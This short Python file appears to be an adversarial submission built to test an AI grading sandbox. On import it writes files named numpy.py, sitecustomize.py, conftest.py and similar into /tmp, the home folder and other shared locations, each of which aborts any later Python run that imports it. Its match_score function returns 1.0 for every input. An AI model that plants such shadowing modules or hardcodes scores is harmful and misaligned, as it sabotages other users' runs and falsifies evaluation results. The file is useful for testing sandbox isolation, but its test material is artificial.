# family = "writing"
# tries = "leaves modules that would be imported, and files, for whoever is graded next"
# at_most = 1.2
import os

for folder in ("/tmp", "/dev/shm", "/tmp/work", os.path.expanduser("~"), "."):
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "nablab.py"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("raise SystemExit('spoiled')\n")
        except OSError:
            pass


def match_score(patch, filt):
    return 1.0
